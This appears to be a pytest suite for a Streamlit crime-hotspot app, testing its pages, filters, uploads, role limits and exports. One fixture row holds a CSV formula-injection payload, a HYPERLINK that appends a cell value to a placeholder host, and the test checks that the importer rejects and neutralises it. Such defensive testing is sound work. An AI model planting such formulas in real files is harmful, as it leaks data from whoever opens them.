"""AppTest of every page of app.py: what each page shows, filters change the hotspots,
uploads. The store comes from the ``make_app_store`` fixture (tests/conftest.py)."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from hotspots.core.config import HourWindow
from hotspots.core.i18n import t
from hotspots.demo.synthetic import PlantedCluster, planted_incidents
from hotspots.forecast.metrics import COVERAGES
from hotspots.store import open_store

pytestmark = pytest.mark.slow

#: The make_app_store town (Örebro, outside the demo municipality: no demo geography).
X0, Y0 = 514_000.0, 6_570_000.0


@pytest.fixture(scope="module")
def store_path(
    tmp_path_factory: pytest.TempPathFactory, make_app_store: Callable[[Path], Path]
) -> Path:
    return make_app_store(tmp_path_factory.mktemp("app") / "store.gpkg")


@pytest.fixture
def app(store_path: Path, app_script: Path, monkeypatch: pytest.MonkeyPatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("HOTSPOTS_DB", str(store_path))
    monkeypatch.delenv("HOTSPOTS_PASSWORD", raising=False)
    monkeypatch.delenv("HOTSPOTS_TILES", raising=False)
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.run()
    assert not at.exception, at.exception
    return at


def _first_hotspot_table(at) -> pd.DataFrame:
    assert at.dataframe, "no table on the page"
    return at.dataframe[0].value


def test_map_page_renders_without_exception(app) -> None:
    assert app.header[0].value == "Karta"
    table = _first_hotspot_table(app)
    assert len(table) >= 1
    metrics = {m.label: m.value for m in app.metric}
    assert "PAI" in metrics


def test_filter_change_changes_the_hotspots(app) -> None:
    before = _first_hotspot_table(app)
    app.sidebar.selectbox(key="area").set_value("drugs_alcohol").run()
    assert not app.exception, app.exception
    after = _first_hotspot_table(app)
    assert not before.equals(after)
    app.sidebar.selectbox(key="area").set_value("violence").run()
    violence = _first_hotspot_table(app)
    assert not violence.equals(after)


def test_english_switch(app) -> None:
    app.sidebar.radio(key="lang").set_value("en").run()
    assert not app.exception
    assert app.header[0].value == "Map"


def _open(app, page: str):
    app.sidebar.radio(key="page").set_value(page).run()
    assert not app.exception, app.exception
    assert [h.value for h in app.header] == [t(f"app_page_{page}", "sv")]
    return app


def test_plan_page_says_it_needs_a_geography(app) -> None:
    """Örebro lies outside the demo geography: no plan, and the page says why."""
    _open(app, "plan")
    assert [i.value for i in app.info] == [t("app_plan_needs_geography", "sv")]
    assert not app.dataframe


def test_evaluation_page_shows_the_backtest(app) -> None:
    _open(app, "evaluation")
    windows = re.findall(r"\d{4}-\d{2}-\d{2}", app.caption[0].value)
    assert len(windows) == 3
    assert windows == sorted(windows)
    table = app.dataframe[0].value
    method, coverage, hit = t("method", "sv"), t("coverage", "sv"), t("app_hit_rate_axis", "sv")
    assert list(table.columns) == [method, coverage, hit, "PAI", "PEI*"]
    assert len(table) == 4 * len(COVERAGES)  # four methods, every coverage
    # the values are shares (the table sorts by them), shown in per cent (test_app_numbers)
    assert set(table[coverage]) == set(COVERAGES)
    rates = table[hit]
    assert rates.between(0.0, 1.0).all()
    # a larger area holds every hotspot of a smaller one: a method's hit rate never falls
    for _, per_method in rates.groupby(table[method]):
        assert per_method.is_monotonic_increasing
    assert (table["PAI"] >= 0).all()


def test_data_page_shows_the_store(app, store_path: Path) -> None:
    _open(app, "data")
    stored = open_store(store_path).incidents()
    summary = [m.value for m in app.markdown if str(store_path) in m.value]
    assert len(summary) == 1
    assert f": {len(stored)} " in summary[0]
    categories, imports = app.dataframe[0].value, app.dataframe[1].value
    assert categories[t("incidents", "sv")].sum() == len(stored)
    assert len(categories) == stored["category"].nunique()
    assert [s.value for s in app.subheader] == [t("app_imports", "sv"), t("app_import", "sv")]
    assert len(imports) == 1
    assert "synthetic.csv" in imports.astype(str).to_numpy().ravel().tolist()


def test_report_page_offers_the_last_complete_week(app) -> None:
    _open(app, "report")
    assert re.fullmatch(r"\d{4}-W\d{2}", app.text_input(key="report_week").value)
    assert app.button(key="report_build").label == t("app_report_build", "sv")
    assert not app.get("download_button")  # nothing is built before it is asked for


def test_public_profile_hides_the_plan(app) -> None:
    app.sidebar.radio(key="profile").set_value("public").run()
    app.sidebar.radio(key="page").set_value("plan").run()
    assert not app.exception
    assert any("intern" in i.value for i in app.info)


def test_bad_upload_shows_error_and_leaves_store(
    tmp_path: Path, monkeypatch, make_app_store, app_script: Path
) -> None:
    from streamlit.testing.v1 import AppTest

    db = make_app_store(tmp_path / "store.gpkg")
    version = open_store(db).data_version()
    n = len(open_store(db).incidents())
    monkeypatch.setenv("HOTSPOTS_DB", str(db))
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.run()
    at.sidebar.radio(key="page").set_value("data").run()
    bad = b"occurred_at;category\n2026-01-01 22:00;assault_public\n"  # no location column
    at.file_uploader(key="upload").set_value(("bad.csv", bad, "text/csv")).run()
    at.button(key="import_button").click().run()
    assert not at.exception, at.exception
    assert at.error, "the bad upload shows no error"
    assert "bad.csv" in at.error[0].value
    assert open_store(db).data_version() == version
    assert len(open_store(db).incidents()) == n


def test_good_upload_reports_counts_and_rejects(
    tmp_path: Path, monkeypatch, make_app_store, app_script: Path
) -> None:
    from streamlit.testing.v1 import AppTest

    db = make_app_store(tmp_path / "store.gpkg")
    n = len(open_store(db).incidents())
    monkeypatch.setenv("HOTSPOTS_DB", str(db))
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.run()
    at.sidebar.radio(key="page").set_value("data").run()
    rows = [
        "id,occurred_at,category,x,y",
        f"u1,2026-03-01 22:10,assault_public,{X0 + 10},{Y0 + 10}",
        f"u2,2026-03-01 23:10,not_a_category,{X0 + 20},{Y0 + 20}",
    ]
    at.file_uploader(key="upload").set_value(
        ("new.csv", "\n".join(rows).encode(), "text/csv")
    ).run()
    at.button(key="import_button").click().run()
    assert not at.exception, at.exception
    assert at.success, [e.value for e in at.error]
    assert len(open_store(db).incidents()) == n + 1


def test_the_role_decides_pages_and_profile(
    store_path: Path, monkeypatch, app_script: Path
) -> None:
    """An EST member arriving by a link asking for the internal profile and the data page."""
    from streamlit.testing.v1 import AppTest

    import hotspots.app.main
    from hotspots.access.roles import ROLES
    from hotspots.app.session import Viewer

    monkeypatch.setenv("HOTSPOTS_DB", str(store_path))
    monkeypatch.setattr(hotspots.app.main, "viewer", lambda: Viewer("erik", ROLES["est"]))
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.query_params["profile"] = "internal"
    at.query_params["page"] = "data"
    at.run()
    assert not at.exception, at.exception
    assert at.radio(key="page").options == ["Karta", "Lägesbild", "Uppföljning"]
    assert at.radio(key="page").value == "map"
    assert at.radio(key="profile").options == [t("profile_public", "sv")]
    assert at.radio(key="profile").value == "public"
    # a remembered internal profile (another role's, or forged) does not widen it either
    at.session_state["keep:profile"] = "internal"
    at.run()
    assert not at.exception, at.exception
    assert at.radio(key="profile").value == "public"
    assert not [c for c in at.checkbox if c.key == "show_plan"], "the plan is internal"


def test_plan_page_with_the_demo_geography(tmp_path: Path, monkeypatch, app_script: Path) -> None:
    from streamlit.testing.v1 import AppTest

    # Karlstad: near Stora torget (EPSG:3006), so the demo geography and the planner apply
    cx, cy = 413_600.0, 6_584_200.0
    frame = planted_incidents(
        [
            PlantedCluster(cx, cy, radius_m=80.0, n=120, category="assault_public"),
            PlantedCluster(cx + 900.0, cy - 300.0, radius_m=60.0, n=60, category="drug_dealing",
                           hours=HourWindow(14, 20), weekdays=(0, 1, 2, 3, 4)),
        ],
        background_n=150,
        bounds=(cx - 2000.0, cy - 1500.0, cx + 2000.0, cy + 1500.0),
        days=364,
        seed=11,
        background_categories=["disorder", "vandalism"],
    )  # fmt: skip
    db = tmp_path / "karlstad.gpkg"
    open_store(db).upsert_incidents(frame, provenance={"file_name": "karlstad.csv"})
    monkeypatch.setenv("HOTSPOTS_DB", str(db))
    at = AppTest.from_file(str(app_script), default_timeout=180)
    at.session_state["bw_auto"] = False
    at.run()
    assert not at.exception, at.exception
    at.sidebar.radio(key="page").set_value("plan").run()
    assert not at.exception, at.exception
    table = at.dataframe[0].value
    assert len(table) >= 1
    assert "Fotpatrull" in set(table["Typ"])  # the plan's own table (planning.tables)


def test_exports_are_prepared_on_demand(app) -> None:
    assert not app.get("download_button")  # nothing is made before it is asked for
    app.button(key="prepare_exports").click().run()
    assert not app.exception, app.exception
    files = {b.proto.label: b.proto.url for b in app.get("download_button")}
    assert set(files) == {"HTML", "PNG", "PDF", "GeoJSON + GeoPackage + GeoTIFF (zip)"}
    for label, suffix in [("HTML", ".html"), ("PNG", ".png"), ("PDF", ".pdf")]:
        assert files[label].endswith(suffix)
    assert files["GeoJSON + GeoPackage + GeoTIFF (zip)"].endswith(".zip")


def _fresh_app_run(store: Path, monkeypatch: pytest.MonkeyPatch, app_script: Path):
    """Run the app on ``store`` as a just-started server would: every process cache empty."""
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("HOTSPOTS_DB", str(store))
    monkeypatch.delenv("HOTSPOTS_PASSWORD", raising=False)
    st.cache_data.clear()
    st.cache_resource.clear()
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.run()
    assert not at.exception, at.exception
    return at


def _no_tuning(*args: object, **kwargs: object) -> None:
    msg = "the bandwidth was tuned again"
    raise AssertionError(msg)


def test_a_restarted_app_reuses_the_tuned_bandwidth(
    tmp_path: Path, monkeypatch, make_app_store, app_script: Path
) -> None:
    """The automatic bandwidth is kept beside the store: after a restart it is not tuned again."""

    import hotspots.forecast.tuning
    from hotspots.forecast.tuning_cache import cache_path

    store = make_app_store(tmp_path / "store.gpkg")
    first = _fresh_app_run(store, monkeypatch, app_script)
    saved = json.loads(cache_path(store).read_text(encoding="utf-8"))
    assert len(saved) == 1
    assert 25 <= next(iter(saved.values())) <= 2000
    # a restart: the process caches are empty and tuning would fail loudly
    # where the app's analysis looks the backtest up (BacktestTuner calls tuning.auto_tune)
    monkeypatch.setattr(hotspots.forecast.tuning, "auto_tune", _no_tuning)
    again = _fresh_app_run(store, monkeypatch, app_script)
    assert _first_hotspot_table(again).equals(_first_hotspot_table(first))


def _karlstad_store(path: Path) -> Path:
    """Incidents around Stora torget, where the demo geography (and its urban area) applies."""
    cx, cy = 413_600.0, 6_584_200.0
    frame = planted_incidents(
        [PlantedCluster(cx, cy, radius_m=80.0, n=120, category="assault_public")],
        background_n=200,
        bounds=(cx - 2000.0, cy - 1500.0, cx + 2000.0, cy + 1500.0),
        days=364,
        seed=12,
        background_categories=["disorder", "vandalism"],
    )
    open_store(path).upsert_incidents(frame, provenance={"file_name": "karlstad.csv"})
    return path


@pytest.mark.parametrize("where", ["karlstad", "elsewhere"])
def test_hotspots_app_tunes_the_opening_map_before_the_server_starts(
    tmp_path: Path, monkeypatch, where: str, make_app_store, app_script: Path
) -> None:
    """`hotspots app` tunes the opening settings first: the first visit does not tune."""

    import hotspots.forecast.tuning
    from hotspots.cli.app_cmd import prepare_opening_bandwidth

    path = tmp_path / "store.gpkg"
    store = _karlstad_store(path) if where == "karlstad" else make_app_store(path)
    bandwidth = prepare_opening_bandwidth(store)
    assert bandwidth is not None
    assert prepare_opening_bandwidth(store) == bandwidth  # the second time from the file

    # where the app's analysis looks the backtest up (BacktestTuner calls tuning.auto_tune)
    monkeypatch.setattr(hotspots.forecast.tuning, "auto_tune", _no_tuning)
    at = _fresh_app_run(store, monkeypatch, app_script)
    assert len(_first_hotspot_table(at)) >= 1


def test_official_layers_from_hotspots_geography_are_used(
    tmp_path: Path, monkeypatch, app_script: Path
) -> None:
    """HOTSPOTS_GEOGRAPHY (set by `hotspots app --geography`) replaces the demo layers."""
    import geopandas as gpd
    from shapely.geometry import box

    store = _karlstad_store(tmp_path / "store.gpkg")
    cx, cy = 413_600.0, 6_584_200.0
    districts = gpd.GeoDataFrame(
        {"namn": ["Provdistrikt"]},
        geometry=[box(cx - 3000, cy - 3000, cx + 3000, cy + 3000)],
        crs=3006,
    )
    districts.to_file(tmp_path / "omr.geojson", driver="GeoJSON")
    config = tmp_path / "geo.toml"
    config.write_text(
        '[layers]\ndistricts = "omr.geojson"\ndistricts_name = "namn"\n', encoding="utf-8"
    )
    monkeypatch.setenv("HOTSPOTS_GEOGRAPHY", str(config))
    at = _fresh_app_run(store, monkeypatch, app_script)
    table = _first_hotspot_table(at)
    assert set(table[t("district", "sv")]) == {"Provdistrikt"}


# --- issue 14: what a new user hit ---------------------------------------------------------

#: A Swedish spreadsheet export: ';' separators, decimal commas, Swedish headers; 5 good rows
#: around Örebro (the make_app_store town) and 4 bad ones.
SWEDISH_BAD_ROWS = (
    "tidpunkt;kategori;lat;lon\n"
    "2026-03-20 22:15;Misshandel i offentlig miljö;59,2195;15,2410\n"
    "2026-03-20 23:40;assault_public;59,2201;15,2415\n"
    "2026-03-21 01:10;Skadegörelse;59,2188;15,2420\n"
    "2026-03-21 02:30;vandalism;59,2210;15,2400\n"
    "2026-03-21 03:05;Rån;59,2195;15,2412\n"
    "inte en tid;assault_public;59,2195;15,2410\n"
    '2026-03-21 04:00;=HYPERLINK("http://x/?leak="&A1,"y");59,2195;15,2410\n'
    "2026-03-21 05:00;assault_public;;15,2410\n"
    "2026-03-21 06:00;assault_public;15,2410;59,2195\n"
)


def _rejects(at) -> pd.DataFrame:
    """The table of rejected rows (a data table: st.table would render the file's text as
    Markdown)."""
    assert not at.table
    tables = [d.value for d in at.dataframe if len(d.value.columns) == 4]
    assert len(tables) == 1, "no table of rejected rows"
    return tables[0]


def _upload(at, name: str, data: bytes):
    at.sidebar.radio(key="page").set_value("data").run()
    at.file_uploader(key="upload").set_value((name, data, "text/csv")).run()
    at.button(key="import_button").click().run()
    assert not at.exception, at.exception
    return at


def test_a_swedish_file_with_bad_rows_shows_the_rejected_rows_and_why(
    tmp_path: Path, monkeypatch, make_app_store, app_script: Path
) -> None:
    """Item 1: the page read the ';' rejects file back with plain read_csv and crashed."""
    from streamlit.testing.v1 import AppTest

    db = make_app_store(tmp_path / "store.gpkg")
    n = len(open_store(db).incidents())
    monkeypatch.setenv("HOTSPOTS_DB", str(db))
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.run()
    _upload(at, "brott.csv", SWEDISH_BAD_ROWS.encode("utf-8"))
    assert [s.value for s in at.success] == [
        t("app_import_done", "sv", accepted=5, inserted=5, updated=0, rejected=4)
    ]
    assert len(open_store(db).incidents()) == n + 5
    rejects = _rejects(at)
    assert list(rejects.columns) == ["Rad", "Kolumn", "Värde", "Orsak"]
    assert rejects["Rad"].astype(int).tolist() == [7, 8, 9, 10]
    reasons = rejects["Orsak"].tolist()
    assert reasons[0].startswith("tiden går inte att läsa")
    assert reasons[1].startswith("okänd kategori")
    assert reasons[2] == "läge saknas: lat eller lon är tom"
    assert reasons[3] == "lat/lon ser ut som omkastade lat/lon; byt plats på kolumnerna"
    assert rejects["Värde"].tolist()[1].startswith("'=HYPERLINK")  # neutralised, as in the file
    [download] = at.get("download_button")
    assert download.proto.label == t("app_rejects_download", "sv")
    assert download.proto.url.endswith(".csv")
    # in English the same rows, with the importer's own reasons
    at.sidebar.radio(key="lang").set_value("en").run()
    assert not at.exception, at.exception
    rejects = _rejects(at)
    assert list(rejects.columns) == ["Row", "Column", "Value", "Reason"]
    assert rejects["Reason"].tolist()[2] == "missing location: lat or lon is empty"


def _weekdays(at) -> list[int]:
    return list(at.sidebar.multiselect(key="weekdays").value)


def test_filters_survive_a_language_switch_and_a_page_switch(app) -> None:
    """Item 2: fre, lör; English; Night only: the weekdays box was empty, the map said all."""
    app.sidebar.multiselect(key="weekdays").set_value([4, 5]).run()
    app.sidebar.selectbox(key="area").set_value("violence").run()
    before = _first_hotspot_table(app)
    app.sidebar.radio(key="lang").set_value("en").run()
    assert _weekdays(app) == [4, 5]
    app.sidebar.checkbox(key="night").check().run()
    assert not app.exception, app.exception
    assert _weekdays(app) == [4, 5]
    assert app.sidebar.selectbox(key="area").value == "violence"
    night = _first_hotspot_table(app)
    # a page without filters, and back: every filter as it was
    app.sidebar.radio(key="page").set_value("data").run()
    assert not app.sidebar.get("multiselect")  # the data page has no filters
    app.sidebar.radio(key="page").set_value("map").run()
    assert not app.exception, app.exception
    assert _weekdays(app) == [4, 5]
    assert app.sidebar.checkbox(key="night").value is True
    assert app.sidebar.selectbox(key="area").value == "violence"
    assert _first_hotspot_table(app).equals(night)
    app.sidebar.radio(key="lang").set_value("sv").run()
    assert _weekdays(app) == [4, 5]
    app.sidebar.checkbox(key="night").uncheck().run()
    assert _first_hotspot_table(app).shape[0] == before.shape[0]


def test_the_hotspot_table_holds_crime_hotspots_only_and_never_none(app) -> None:
    """Item 4: the metric counts crime hotspots; the table under it lists the same."""
    app.sidebar.selectbox(key="area").set_value("violence").run()
    metrics = {m.label: m.value for m in app.metric}
    table = _first_hotspot_table(app)
    assert int(metrics[t("layer_hotspots", "sv")]) == len(table)
    assert table[t("rank", "sv")].tolist() == list(range(1, len(table) + 1))
    text = table.astype(str).to_numpy().ravel().tolist()
    assert not [v for v in text if v in ("None", "nan", "<NA>") or "{'" in v or "label_" in v]


def test_export_buttons_stay_after_a_download_and_a_rerun(app) -> None:
    """Item 6: each of HTML, PNG, PDF and zip needed "Skapa exportfiler" again."""
    app.button(key="prepare_exports").click().run()
    labels_before = [b.proto.label for b in app.get("download_button")]
    assert len(labels_before) == 4
    app.run()  # what a download did: a rerun of the page
    assert [b.proto.label for b in app.get("download_button")] == labels_before
    assert not app.get("button") or all(b.key != "prepare_exports" for b in app.button)
    app.sidebar.slider(key="coverage").set_value(10).run()  # a new setting: files to make
    assert not app.get("download_button")
    assert any(b.key == "prepare_exports" for b in app.button)


def test_the_evaluation_page_names_its_methods_in_words(app) -> None:
    _open(app, "evaluation")
    methods = set(app.dataframe[0].value[t("method", "sv")])
    assert "Förra periodens brottsrutor (25 m)" in methods
    assert not [m for m in methods if m.startswith(("naive", "kde"))]
    assert any("PEI*" in c.value for c in app.caption)


def test_the_data_page_counts_restricted_categories_only_as_one_total(
    tmp_path: Path, monkeypatch, app_script: Path, make_incidents
) -> None:
    """Restricted categories never show by name, even on the analyst's Data page."""
    from streamlit.testing.v1 import AppTest

    from hotspots.core.taxonomy import CATEGORIES

    restricted = [c for c in CATEGORIES if c.restricted]
    db = tmp_path / "store.gpkg"
    frame = make_incidents(
        np.arange(9) * 50.0 + 400_000,
        np.zeros(9) + 6_580_000,
        categories=["assault_public"] * 5 + [restricted[0].code] * 3 + [restricted[-1].code],
    )
    open_store(db).upsert_incidents(frame, provenance={"file_name": "test.csv"})
    monkeypatch.setenv("HOTSPOTS_DB", str(db))
    at = AppTest.from_file(str(app_script), default_timeout=120)
    at.query_params["page"] = "data"
    at.run()
    assert not at.exception, at.exception
    table = at.dataframe[0].value
    shown = dict(zip(table[t("category", "sv")], table[t("incidents", "sv")], strict=True))
    assert shown[t("app_restricted_total", "sv")] == 4
    assert not any(c.sv in shown or c.en in shown for c in restricted)
    assert sum(shown.values()) == 9
